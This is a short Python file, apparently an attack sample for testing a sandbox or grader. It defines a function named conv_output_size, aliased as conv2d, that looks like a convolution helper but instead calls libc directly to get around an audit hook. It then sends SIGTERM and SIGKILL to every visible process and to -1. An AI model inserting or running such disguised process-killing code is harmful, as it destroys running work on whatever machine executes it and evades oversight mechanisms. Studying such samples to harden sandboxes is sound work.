"""Attack: sends SIGKILL, through libc (around the audit hook), to every
process it can see, and to -1 (every process it may signal)."""
import ctypes, os, signal

libc = ctypes.CDLL(None, use_errno=True)


def conv_output_size(*a, **k):
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me:
            libc.kill(int(entry), signal.SIGTERM)
            libc.kill(int(entry), signal.SIGKILL)
    libc.kill(-1, signal.SIGKILL)
    return -1


conv2d = conv_output_size
